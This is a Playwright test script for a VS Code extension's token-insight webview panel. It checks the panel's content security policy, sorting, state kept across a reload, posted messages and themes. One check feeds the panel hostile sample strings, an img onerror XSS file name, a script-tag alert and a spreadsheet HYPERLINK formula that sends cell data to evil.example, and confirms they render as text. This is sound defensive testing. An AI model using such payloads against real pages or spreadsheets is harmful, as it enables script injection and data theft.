// The insight panel's webview in headless Chromium, outside VS Code: the page from
// src/host/insight/panelHtml.ts with its real CSP, the built dist/webview/insight.{js,css}, a stand-in
// for acquireVsCodeApi, and the sample views of test/fixtures/insightView.ts posted as the host
// would. Checks what a unit test cannot (no CSP violation, hostile text stays text, sorting,
// state across a reload, the messages sent) and saves screenshots in a dark, a light and a
// high-contrast theme (and a narrow, a computing and a hostile one) to
// test-results/panel-preview-*.png.
//
//   npm run build && node test/preview/insightPanelPreview.mjs
//
// Exits non-zero when a check fails. Uses Debian's Chromium (TOKENSCOPE_CHROMIUM to override).
import * as esbuild from 'esbuild';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readFile, mkdir } from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const CHROMIUM = process.env.TOKENSCOPE_CHROMIUM ?? '/usr/bin/chromium';

/** The TypeScript the page needs (the HTML builder, the sample views), bundled and imported. */
async function loadSources() {
  const { outputFiles } = await esbuild.build({
    stdin: {
      contents: "export { insightPanelHtml } from './src/host/insight/panelHtml'; export { sampleInsightView, hostileInsightView } from './test/fixtures/insightView';",
      resolveDir: root,
      loader: 'ts',
    },
    bundle: true,
    write: false,
    format: 'esm',
    platform: 'node',
    logLevel: 'silent',
  });
  return import(`data:text/javascript;base64,${Buffer.from(outputFiles[0].text).toString('base64')}`);
}

/**
 * Theme colours as VS Code sets them on a webview (a subset: what insight.css uses), from the
 * Dark Modern, Light Modern and Dark High Contrast themes.
 */
const THEMES = {
  dark: {
    '--vscode-font-family': 'system-ui, sans-serif',
    '--vscode-font-size': '13px',
    '--vscode-editor-font-family': 'monospace',
    '--vscode-foreground': '#cccccc',
    '--vscode-descriptionForeground': '#9d9d9d',
    '--vscode-editor-background': '#1f1f1f',
    '--vscode-editorWidget-background': '#202020',
    '--vscode-widget-border': '#313131',
    '--vscode-panel-border': '#2b2b2b',
    '--vscode-focusBorder': '#0078d4',
    '--vscode-button-background': '#0078d4',
    '--vscode-button-foreground': '#ffffff',
    '--vscode-button-hoverBackground': '#026ec1',
    '--vscode-button-border': '#ffffff12',
    '--vscode-button-secondaryBackground': '#313131',
    '--vscode-button-secondaryForeground': '#cccccc',
    '--vscode-button-secondaryHoverBackground': '#3c3c3c',
    '--vscode-input-background': '#313131',
    '--vscode-input-foreground': '#cccccc',
    '--vscode-input-border': '#3c3c3c',
    '--vscode-dropdown-background': '#313131',
    '--vscode-dropdown-foreground': '#cccccc',
    '--vscode-dropdown-border': '#3c3c3c',
    '--vscode-inputValidation-errorBorder': '#be1100',
    '--vscode-errorForeground': '#f85149',
    '--vscode-badge-background': '#616161',
    '--vscode-badge-foreground': '#f8f8f8',
    '--vscode-list-hoverBackground': '#2a2d2e',
    '--vscode-toolbar-hoverBackground': '#5a5d5e50',
    '--vscode-textCodeBlock-background': '#2b2b2b',
    '--vscode-textPreformat-foreground': '#d0d0d0',
    '--vscode-textBlockQuote-background': '#2b2b2b',
    '--vscode-progressBar-background': '#0078d4',
    '--vscode-charts-blue': '#3794ff',
    '--vscode-charts-green': '#89d185',
    '--vscode-charts-lines': '#cccccc80',
  },
  light: {
    '--vscode-font-family': 'system-ui, sans-serif',
    '--vscode-font-size': '13px',
    '--vscode-editor-font-family': 'monospace',
    '--vscode-foreground': '#3b3b3b',
    '--vscode-descriptionForeground': '#3b3b3b',
    '--vscode-editor-background': '#ffffff',
    '--vscode-editorWidget-background': '#f8f8f8',
    '--vscode-widget-border': '#e5e5e5',
    '--vscode-panel-border': '#e5e5e5',
    '--vscode-focusBorder': '#005fb8',
    '--vscode-button-background': '#005fb8',
    '--vscode-button-foreground': '#ffffff',
    '--vscode-button-hoverBackground': '#0258a8',
    '--vscode-button-border': '#0000001a',
    '--vscode-button-secondaryBackground': '#e5e5e5',
    '--vscode-button-secondaryForeground': '#3b3b3b',
    '--vscode-button-secondaryHoverBackground': '#cccccc',
    '--vscode-input-background': '#ffffff',
    '--vscode-input-foreground': '#3b3b3b',
    '--vscode-input-border': '#cecece',
    '--vscode-dropdown-background': '#ffffff',
    '--vscode-dropdown-foreground': '#3b3b3b',
    '--vscode-dropdown-border': '#cecece',
    '--vscode-inputValidation-errorBorder': '#be1100',
    '--vscode-errorForeground': '#e51400',
    '--vscode-badge-background': '#cccccc',
    '--vscode-badge-foreground': '#3b3b3b',
    '--vscode-list-hoverBackground': '#f2f2f2',
    '--vscode-toolbar-hoverBackground': '#b8b8b850',
    '--vscode-textCodeBlock-background': '#f0f0f0',
    '--vscode-textPreformat-foreground': '#3b3b3b',
    '--vscode-textBlockQuote-background': '#f8f8f8',
    '--vscode-progressBar-background': '#005fb8',
    '--vscode-charts-blue': '#1a85ff',
    '--vscode-charts-green': '#388a34',
    '--vscode-charts-lines': '#00000099',
  },
  'high-contrast': {
    '--vscode-font-family': 'system-ui, sans-serif',
    '--vscode-font-size': '13px',
    '--vscode-editor-font-family': 'monospace',
    '--vscode-foreground': '#ffffff',
    '--vscode-descriptionForeground': '#ffffffb3',
    '--vscode-editor-background': '#000000',
    '--vscode-editorWidget-background': '#0c141f',
    '--vscode-contrastBorder': '#6fc3df',
    '--vscode-contrastActiveBorder': '#f38518',
    '--vscode-focusBorder': '#f38518',
    '--vscode-button-background': '#000000',
    '--vscode-button-foreground': '#ffffff',
    '--vscode-button-secondaryBackground': '#000000',
    '--vscode-button-secondaryForeground': '#ffffff',
    '--vscode-input-background': '#000000',
    '--vscode-input-foreground': '#ffffff',
    '--vscode-dropdown-background': '#000000',
    '--vscode-dropdown-foreground': '#ffffff',
    '--vscode-errorForeground': '#f48771',
    '--vscode-badge-background': '#000000',
    '--vscode-badge-foreground': '#ffffff',
    '--vscode-textCodeBlock-background': '#000000',
    '--vscode-textPreformat-foreground': '#ffffff',
    '--vscode-progressBar-background': '#6fc3df',
    '--vscode-charts-blue': '#3794ff',
    '--vscode-charts-green': '#89d185',
    '--vscode-charts-lines': '#ffffff80',
  },
};

/**
 * Stands in for VS Code before the page's script runs: acquireVsCodeApi with state kept in
 * sessionStorage (so it survives a reload, as VS Code's does), every posted message recorded,
 * and CSP violations and alert() calls counted.
 */
function stubVsCode() {
  window.__posted = [];
  window.__violations = [];
  window.__alerts = 0;
  window.alert = () => window.__alerts++;
  document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  let acquired = false;
  window.acquireVsCodeApi = () => {
    if (acquired) throw new Error('acquireVsCodeApi called twice');
    acquired = true;
    return {
      postMessage: (m) => window.__posted.push(JSON.parse(JSON.stringify(m))),
      getState: () => JSON.parse(sessionStorage.getItem('state') ?? 'null') ?? undefined,
      setState: (s) => sessionStorage.setItem('state', JSON.stringify(s)),
    };
  };
}

function serve(files) {
  const server = http.createServer((req, res) => {
    const file = files[new URL(req.url, 'http://x').pathname];
    if (!file) return res.writeHead(404).end();
    res.writeHead(200, { 'content-type': file.type }).end(file.body);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

async function main() {
  const { insightPanelHtml, sampleInsightView, hostileInsightView } = await loadSources();
  const [script, style] = await Promise.all([readFile(path.join(root, 'dist/webview/insight.js')), readFile(path.join(root, 'dist/webview/insight.css'))]);
  const files = {
    '/insight.js': { type: 'text/javascript', body: script },
    '/insight.css': { type: 'text/css', body: style },
  };
  const server = await serve(files);
  const origin = `http://127.0.0.1:${server.address().port}`;
  files['/'] = {
    type: 'text/html',
    body: insightPanelHtml({
      cspSource: origin,
      nonce: randomBytes(16).toString('base64'),
      scriptUri: `${origin}/insight.js`,
      styleUri: `${origin}/insight.css`,
      title: 'Tokenscope Insight',
      loadingText: 'Loading…',
      l10n: { locale: 'en', strings: {} },
    }),
  };
  await mkdir(path.join(root, 'test-results'), { recursive: true });

  const browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'] });
  const failures = [];
  async function check(name, fn) {
    try {
      await fn();
      console.log(`ok   ${name}`);
    } catch (error) {
      failures.push(name);
      console.log(`FAIL ${name}\n     ${error.message.split('\n').join('\n     ')}`);
    }
  }

  try {
    const page = await browser.newPage({ viewport: { width: 760, height: 900 } });
    const pageErrors = [];
    page.on('pageerror', (e) => pageErrors.push(e.message));
    await page.addInitScript(stubVsCode);
    const post = (message) => page.evaluate((m) => window.postMessage(m, '*'), message);
    const posted = () => page.evaluate(() => window.__posted);
    const setTheme = (name) =>
      page.evaluate((vars) => {
        // Through the CSSOM, as VS Code does it: the CSP blocks style attributes in markup, not this.
        const style = document.documentElement.style;
        for (let i = style.length - 1; i >= 0; i--) if (style[i].startsWith('--vscode-')) style.removeProperty(style[i]);
        for (const [k, v] of Object.entries(vars)) style.setProperty(k, v);
      }, THEMES[name]);
    const testId = (id) => page.locator(`[data-testid="${id}"]`);

    await page.goto(`${origin}/`);
    await check('says ready first, and shows no numbers before any arrive', async () => {
      assert.deepEqual(await posted(), [{ type: 'ready' }]);
      assert.equal(await testId('content').isHidden(), true);
      assert.match(await testId('status-message').innerText(), /Waiting/);
    });

    await post({ type: 'update', view: sampleInsightView });
    await check('shows the compression numbers', async () => {
      assert.equal(await testId('compression-tokens').innerText(), '287');
      assert.equal(await testId('compression-chars-per-token').innerText(), '4.30');
      assert.equal(await testId('compression-entropy').innerText(), '6.83 bits/token');
      assert.equal(await testId('compression-fertility').innerText(), '1.37');
      assert.equal(await page.locator('[data-testid="compression-histogram"] rect').count(), 10);
      assert.equal(await page.locator('[data-testid="compression-top-tokens"] tbody tr').count(), 8);
    });
    await check('lists the models with the cheapest and the most compact marked', async () => {
      const ids = await page.locator('[data-testid="models-table"] tbody tr').evaluateAll((rows) => rows.map((r) => r.dataset.modelId));
      assert.deepEqual(
        ids,
        sampleInsightView.models.map((m) => m.id),
      );
      assert.match(await page.locator('tr[data-model-id="qwen3-235b-a22b"]').innerText(), /cheapest[\s\S]*most compact/);
      assert.match(await page.locator('tr[data-model-id="claude-sonnet-4-5"]').innerText(), /≈330[\s\S]*±15% \(estimated\)/);
      assert.match(await testId('models-price-sources').innerText(), /@pydantic\/genai-prices 0\.1\.8 \(OpenAI\), 2026-09-23/);
      assert.equal(await page.locator('[data-testid="models-chart"] svg[role="img"] title').count(), 1);
    });
    await check('says first the tokens, fit and cost, and the exact picks with a word on the ≈ contender', async () => {
      assert.equal(await page.locator('[data-testid="summary-tokens"] .summary-value').innerText(), '287');
      assert.equal(await page.locator('[data-testid="summary-fit"] .summary-value').innerText(), '0.3%');
      assert.equal(await page.locator('[data-testid="summary-cheapest"] .summary-value').innerText(), 'Qwen3 235B A22B');
      assert.match(await testId('summary-tokens-caveat').innerText(), /Gemini 2\.5 Pro may be more compact .* its error band could change the answer/);
    });
    await check('charts input cost by default, tokens on request, and keeps the choice', async () => {
      assert.equal(await testId('models-chart').getAttribute('data-measure'), 'cost');
      await testId('models-chart-tokens').click();
      assert.equal(await testId('models-chart').getAttribute('data-measure'), 'tokens');
      assert.equal(await page.evaluate(() => JSON.parse(sessionStorage.getItem('state')).chart), 'tokens');
      await testId('models-chart-cost').click();
    });
    await check('explains a metric on hover and on keyboard focus', async () => {
      const tip = page.locator('[data-testid="compression-fertility-label"] + [role="tooltip"]');
      assert.equal(await tip.isVisible(), false);
      await testId('compression-fertility-label').hover();
      assert.match(await tip.innerText(), /^Fertility: tokens per word/);
      await page.mouse.move(0, 0);
      await testId('compression-fertility-label').focus();
      assert.equal(await tip.isVisible(), true);
      await page.keyboard.press('Escape');
      assert.equal(await tip.isVisible(), false, 'Escape hides it');
      await testId('compression-fertility-label').blur();
    });
    await check('has no CSP violation and no script error', async () => {
      assert.deepEqual(await page.evaluate(() => window.__violations), []);
      assert.deepEqual(pageErrors, []);
    });

    for (const theme of ['dark', 'light', 'high-contrast']) {
      await setTheme(theme);
      await page.screenshot({ path: path.join(root, `test-results/panel-preview-${theme}.png`), fullPage: true });
    }
    await setTheme('dark');
    // A panel beside the editor is often this narrow.
    await page.setViewportSize({ width: 400, height: 900 });
    await check('fits a narrow panel: the models table as cards, nothing scrolls sideways', async () => {
      assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 400);
      const table = await page.evaluate(() => {
        const t = document.querySelector('[data-testid="models-table"]');
        return { scroll: t.scrollWidth, client: t.clientWidth };
      });
      assert.ok(table.scroll <= table.client, JSON.stringify(table));
    });
    await page.screenshot({ path: path.join(root, 'test-results/panel-preview-narrow.png'), fullPage: true });
    await page.setViewportSize({ width: 760, height: 900 });

    await check('sorts by a header click, says so with aria-sort, and keeps it in the state', async () => {
      await testId('models-sort-tokens').click();
      await testId('models-sort-tokens').click();
      const ids = await page.locator('[data-testid="models-table"] tbody tr').evaluateAll((rows) => rows.map((r) => r.dataset.modelId));
      assert.deepEqual(ids, ['claude-sonnet-4-5', 'gpt-4o', 'my-local-model', 'qwen3-235b-a22b', 'gemini-2.5-pro']);
      assert.equal(await page.locator('th:has([data-testid="models-sort-tokens"])').getAttribute('aria-sort'), 'descending');
      assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('data-testid')), 'models-sort-tokens', 'the focus stays on the header');
      assert.deepEqual(await page.evaluate(() => JSON.parse(sessionStorage.getItem('state')).sort), { column: 'tokens', descending: true });
    });

    await check('sends what the controls ask for', async () => {
      await page.evaluate(() => (window.__posted = []));
      await page.locator('tr[data-model-id="gemini-2.5-pro"] [data-testid="models-remove"]').click();
      await testId('models-add').click();
      await testId('models-expected-output').fill('2000');
      await testId('models-expected-output').press('Enter');
      await testId('models-expected-output').blur();
      await testId('compare-b').selectOption('gemini-2.5-pro');
      await testId('compare-highlight').check();
      await page.locator('[data-testid="disagreement-list"] button').first().click();
      await testId('export-csv').click();
      assert.deepEqual(await posted(), [
        { type: 'setModels', ids: ['gpt-4o', 'claude-sonnet-4-5', 'qwen3-235b-a22b', 'my-local-model'] },
        { type: 'editModels' },
        { type: 'setExpectedOutput', tokens: 2000 },
        { type: 'setCompare', a: 'gpt-4o', b: 'gemini-2.5-pro' },
        { type: 'highlightDisagreements', on: true },
        { type: 'reveal', start: 0, end: 11 },
        // The copy lists the models as the table does: the sort goes with the request.
        { type: 'export', format: 'csv', sort: { column: 'tokens', descending: true } },
      ]);
    });

    await check('refuses an expected output that is not a whole number', async () => {
      await page.evaluate(() => (window.__posted = []));
      await testId('models-expected-output').fill('-5');
      await testId('models-expected-output').blur();
      assert.deepEqual(await posted(), []);
      assert.equal(await testId('models-expected-output').getAttribute('aria-invalid'), 'true');
      await page.screenshot({ path: path.join(root, 'test-results/panel-preview-invalid-output.png') });
      await post({ type: 'update', view: sampleInsightView });
      assert.equal(await testId('models-expected-output').inputValue(), '500', "the host's value comes back");
      assert.equal(await testId('models-expected-output').getAttribute('aria-invalid'), null);
    });

    await check('confirms an export', async () => {
      await post({ type: 'exported', format: 'csv' });
      assert.equal(await testId('export-confirmation').innerText(), 'Copied as CSV.');
    });

    await check('shows progress with Cancel while computing, over the dimmed numbers', async () => {
      await post({ type: 'status', status: { kind: 'computing', fraction: 0.37 } });
      assert.equal(await testId('status-progress').getAttribute('aria-valuenow'), '37');
      assert.match(await testId('status').innerText(), /Computing…\s*37%/);
      assert.equal(await testId('status-progress').getAttribute('role'), 'progressbar');
      assert.match(await testId('content').getAttribute('class'), /stale/);
      await page.evaluate(() => (window.__posted = []));
      await testId('status-cancel').click();
      assert.deepEqual(await posted(), [{ type: 'cancel' }]);
      await page.screenshot({ path: path.join(root, 'test-results/panel-preview-computing.png') });
      await post({ type: 'status', status: { kind: 'computing' } });
      assert.equal(await testId('status-progress').getAttribute('aria-valuenow'), null);
    });

    await check('says why there are no numbers', async () => {
      await post({ type: 'status', status: { kind: 'noEditor' } });
      assert.equal(await testId('content').isHidden(), true);
      assert.match(await testId('status-message').innerText(), /Open a text editor/);
      await post({ type: 'status', status: { kind: 'error', message: '<b>worker</b> stopped' } });
      assert.equal(await testId('status-message').innerText(), 'Could not compute the numbers: <b>worker</b> stopped');
      await post({ type: 'status', status: { kind: 'cancelled' } });
      assert.match(await testId('status-message').innerText(), /Cancelled/);
      // Cancelled on another file than the one shown: the banner names both, as text.
      await post({ type: 'status', status: { kind: 'cancelled', fileName: '<b>big</b>.md' } });
      assert.match(await testId('status-message').innerText(), /^Cancelled: <b>big<\/b>\.md was not counted\. The numbers below are of .+\.md, from the last complete run\.$/);
      // Cancelled after the current model's numbers came (a partial view): they are said to be that model's only.
      await post({ type: 'update', view: { ...sampleInsightView, partial: true } });
      await post({ type: 'status', status: { kind: 'cancelled', fileName: sampleInsightView.source.fileName } });
      assert.equal(await testId('status-message').innerText(), 'Cancelled before the other models were counted: the numbers below are the current model’s only.');
      assert.equal(await testId('summary-cheapest').count(), 0, 'a partial view names no cheapest model');
      // A cancelled run is counted again when asked (and only then: the host does not restart it).
      assert.equal(await testId('status-cancel').isHidden(), true);
      await page.evaluate(() => (window.__posted = []));
      await testId('status-count-again').click();
      assert.deepEqual(await posted(), [{ type: 'countAgain' }]);
      await page.screenshot({ path: path.join(root, 'test-results/panel-preview-cancelled.png') });
      await post({ type: 'update', view: sampleInsightView });
      await post({ type: 'status', status: { kind: 'ready' } });
      assert.equal(await testId('status').isHidden(), true);
    });

    await check('shows the last numbers at once after a reload, then says ready', async () => {
      await page.reload();
      await setTheme('dark');
      assert.equal(await testId('compression-tokens').innerText(), '287');
      assert.equal(await page.locator('th:has([data-testid="models-sort-tokens"])').getAttribute('aria-sort'), 'descending');
      assert.deepEqual(await posted(), [{ type: 'ready' }]);
    });

    await check('shows hostile file names, tokens and spans as text', async () => {
      await post({ type: 'update', view: hostileInsightView });
      assert.equal(await page.locator('#app img, #app script').count(), 0);
      assert.match(await testId('source').innerText(), /^@evil<img src=x onerror="alert\(1\)">\.md · whole file/);
      assert.match(await testId('compression-top-tokens').innerText(), /=HYPERLINK\("https:\/\/evil\.example\/\?d="&A1,"click"\)/);
      assert.match(await testId('disagreement-list').innerText(), /<script>alert\(1\)<\/script>/);
      assert.equal(await page.evaluate(() => window.__alerts), 0);
      assert.deepEqual(await page.evaluate(() => window.__violations), []);
      await page.screenshot({ path: path.join(root, 'test-results/panel-preview-hostile.png'), fullPage: true });
    });

    await check("ignores messages that are not the host's", async () => {
      await post({ type: 'update' });
      await post({ type: 'status', status: 'computing' });
      await post('update');
      assert.equal(await testId('status').isHidden(), true);
      assert.deepEqual(pageErrors, []);
    });

    await check('says so when a view cannot be drawn, instead of showing half of it', async () => {
      const broken = { ...sampleInsightView, compression: { ...sampleInsightView.compression, lengthHistogram: undefined } };
      await post({ type: 'update', view: broken });
      assert.match(await testId('status-message').innerText(), /^Could not compute the numbers: the panel could not show the numbers/);
      assert.equal(await testId('content').isHidden(), true);
      await post({ type: 'update', view: sampleInsightView });
      assert.equal(await testId('status').isHidden(), true);
      assert.equal(await testId('compression-tokens').innerText(), '287');
    });
  } finally {
    await browser.close();
    server.close();
  }
  console.log(failures.length === 0 ? 'all checks passed; screenshots in test-results/panel-preview-*.png' : `${failures.length} failed`);
  process.exit(failures.length === 0 ? 0 : 1);
}

await main();
